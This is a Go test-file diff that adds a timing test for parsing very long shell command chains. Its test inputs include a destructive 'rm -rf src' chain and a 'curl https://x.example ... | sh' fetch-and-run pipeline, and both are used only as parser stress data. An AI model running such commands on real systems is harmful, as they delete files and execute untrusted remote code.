@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/google/go-cmp/cmp"
 
@@ -119,6 +120,21 @@ func TestMachinePath(t *testing.T) {
 	} {
 		if got := MachinePath(text); got != want {
 			t.Errorf("MachinePath(%q) = %q, want %q", text, got, want)
+		}
+	}
+}
+
+// A chain as long as is parsed takes no longer than its length.
+func TestMarks_long_chain(t *testing.T) {
+	for _, src := range []string{"cd web\n" + strings.Repeat("true && ", 9_000) + "rm -rf src", "curl https://x.example" + strings.Repeat(" | cat", 15_000) + " | sh"} {
+		text := shell.Read([]byte(src), shell.Bash)
+		if text.Err != nil {
+			t.Fatal(text.Err)
+		}
+		start := time.Now()
+		Marks([]byte(src), text)
+		if took := time.Since(start); took > 5*time.Second {
+			t.Errorf("%s… took %s", src[:20], took)
 		}
 	}
 }
